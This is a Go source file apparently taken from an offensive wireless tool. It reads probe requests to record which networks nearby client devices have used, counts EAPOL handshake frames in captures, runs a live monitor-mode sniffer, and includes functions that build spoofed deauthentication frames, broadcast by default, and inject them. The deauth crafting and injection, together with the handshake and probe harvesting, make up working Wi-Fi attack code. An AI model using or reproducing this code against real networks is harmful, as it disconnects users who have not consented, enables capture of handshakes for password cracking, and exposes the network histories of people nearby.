// Package frames does the native 802.11 work: probe-request extraction
// from capture files, EAPOL counting for handshake pre-checks, live
// probe sniffing and deauth frame crafting.
package frames

import (
	"io"
	"os"
	"strings"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/google/gopacket/pcap"
	"github.com/google/gopacket/pcapgo"

	"twincast/libs"
)

var (
	maxRetryMonitorSniffer int    = 10
	broadcast              []byte = []byte{0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF}
)

// Check if the main layer is a probe request
func IsProbeReq(packet gopacket.Packet) (isProbe bool) {
	dot11, ok := packet.Layer(layers.LayerTypeDot11).(*layers.Dot11)
	if !ok || dot11 == nil {
		return false
	}
	return dot11.Type == layers.Dot11TypeMgmtProbeReq
}

// Extract the (client, ssid) pair from a probe request frame
func ProbeFrom(packet gopacket.Packet) (libs.Probe, bool) {
	if !IsProbeReq(packet) {
		return libs.Probe{}, false
	}
	dot11 := packet.Layer(layers.LayerTypeDot11).(*layers.Dot11)
	var client string = strings.ToUpper(dot11.Address2.String())
	if !libs.IsValidMAC(client) {
		return libs.Probe{}, false
	}
	for _, layer := range packet.Layers() {
		if element, ok := layer.(*layers.Dot11InformationElement); ok {
			if element.ID == layers.Dot11InformationElementIDSSID && len(element.Info) > 0 {
				var ssid string = libs.DecodeSSID(string(element.Info))
				if ssid != "" && strings.TrimRight(ssid, "\x00") != "" {
					return libs.Probe{Client: client, Ssid: ssid}, true
				}
			}
		}
	}
	return libs.Probe{}, false
}

// ExtractProbes walks a capture file and returns every valid probe pair
func ExtractProbes(path string) ([]libs.Probe, error) {
	file, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer file.Close()
	reader, err := pcapgo.NewReader(file)
	if err != nil {
		return nil, err
	}
	var probes []libs.Probe
	for {
		data, _, err := reader.ReadPacketData()
		if err == io.EOF {
			break
		}
		if err != nil {
			break // truncated tail of a live capture, keep what we have
		}
		packet := gopacket.NewPacket(data, reader.LinkType(), gopacket.Default)
		if probe, ok := ProbeFrom(packet); ok {
			probes = append(probes, probe)
		}
	}
	return probes, nil
}

// CountEapol counts EAPOL key frames in a capture file
func CountEapol(path string) (int, error) {
	file, err := os.Open(path)
	if err != nil {
		return 0, err
	}
	defer file.Close()
	reader, err := pcapgo.NewReader(file)
	if err != nil {
		return 0, err
	}
	var count int
	for {
		data, _, err := reader.ReadPacketData()
		if err != nil {
			break
		}
		packet := gopacket.NewPacket(data, reader.LinkType(), gopacket.Default)
		if packet.Layer(layers.LayerTypeEAPOLKey) != nil {
			count++
		}
	}
	return count, nil
}

// OpenMonitorHandle opens a live rfmon sniffer, retrying while the
// radio settles after a mode switch.
func OpenMonitorHandle(iface string) (*pcap.Handle, bool) {
	var getSniffer func(string) (*pcap.Handle, bool) = func(iface string) (*pcap.Handle, bool) {
		inactive, err := pcap.NewInactiveHandle(iface)
		defer inactive.CleanUp()
		if err != nil {
			return nil, true
		}
		inactive.SetRFMon(true)
		inactive.SetSnapLen(65536)
		inactive.SetPromisc(true)
		inactive.SetTimeout(pcap.BlockForever)
		handler, err := inactive.Activate()
		if err != nil {
			return nil, true
		}
		return handler, false
	}
	for i := 0; i < maxRetryMonitorSniffer; i++ {
		if handler, retry := getSniffer(iface); !retry {
			return handler, false
		}
	}
	return nil, true
}

// WatchProbes feeds every probe pair seen on the live handle to fn
// until stop is closed.
func WatchProbes(handle *pcap.Handle, stop <-chan struct{}, fn func(libs.Probe)) {
	source := gopacket.NewPacketSource(handle, handle.LinkType())
	for {
		select {
		case <-stop:
			return
		case packet, ok := <-source.Packets():
			if !ok {
				return
			}
			if probe, valid := ProbeFrom(packet); valid {
				fn(probe)
			}
		}
	}
}

// Craft De-Auth packet
func Deauth(source string, target string, seq int) (packet []gopacket.SerializableLayer) {
	var src []byte = libs.ParseMac(source)
	var dst []byte
	if target == "" {
		dst = broadcast
	} else {
		dst = libs.ParseMac(target)
	}
	return []gopacket.SerializableLayer{
		&layers.RadioTap{
			DBMAntennaSignal: int8(-10), // Anonymize RadioTap
		},
		&layers.Dot11{
			Address1:       dst,
			Address2:       src,
			Address3:       src,
			Type:           layers.Dot11TypeMgmtDeauthentication,
			SequenceNumber: uint16(seq),
		},
		&layers.Dot11MgmtDeauthentication{
			Reason: layers.Dot11ReasonClass2FromNonAuth,
		},
	}
}

// Serialize frame layers to raw bytes
func Serialize(packetLayers []gopacket.SerializableLayer) ([]byte, bool) {
	buffer := gopacket.NewSerializeBuffer()
	if err := gopacket.SerializeLayers(buffer, gopacket.SerializeOptions{}, packetLayers...); err != nil {
		return nil, true
	}
	return buffer.Bytes(), false
}

// Inject raw frame layers on a live handle
func Inject(handle *pcap.Handle, packetLayers []gopacket.SerializableLayer) bool {
	raw, err := Serialize(packetLayers)
	if err {
		return true
	}
	return handle.WritePacketData(raw) != nil
}

// ChannelFrequency maps a 2.4/5 GHz channel to its center frequency in MHz
func ChannelFrequency(channel int) int {
	if channel == 14 {
		return 2484
	}
	if channel >= 1 && channel <= 13 {
		return 2407 + channel*5
	}
	return 5000 + channel*5
}
